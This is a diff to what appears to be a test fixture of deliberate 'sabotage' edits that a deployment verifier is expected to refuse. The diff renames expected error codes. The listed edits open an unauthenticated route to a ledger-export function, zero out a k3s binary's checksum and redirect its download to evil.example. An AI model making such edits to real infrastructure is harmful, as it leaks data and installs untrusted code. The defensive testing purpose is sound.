@@ -95,12 +95,12 @@ export const wholeEdits: SabotagesOfKind = [
     every: '    location = /healthz {\n',
     put: '    location = /free {\n        proxy_pass http://openfaas_gateway/function/export-ledger;\n    }\n    location ^~ /free/ {\n        proxy_pass http://openfaas_gateway/function/export-ledger/;\n    }\n    location = /healthz {\n',
   }),
-  refused('the binary of another hash', 'verify/step-missing', {
+  refused('the binary of another hash', 'verify/release-not-locked', {
     file: 'apply.sh',
     every: 'verify "$work/k3s" d73847bcd3c5fccef0115b372e2f9a91f3032dc84bbf71518a4617565294d313\n',
     put: 'verify "$work/k3s" 0000000000000000000000000000000000000000000000000000000000000000\n',
   }),
-  refused('everything is fetched from elsewhere', 'verify/step-missing', {
+  refused('everything is fetched from elsewhere', 'verify/download-elsewhere', {
     file: 'apply.sh',
     every: 'https://github.com/k3s-io/k3s/releases/download',
     put: 'https://evil.example/k3s',
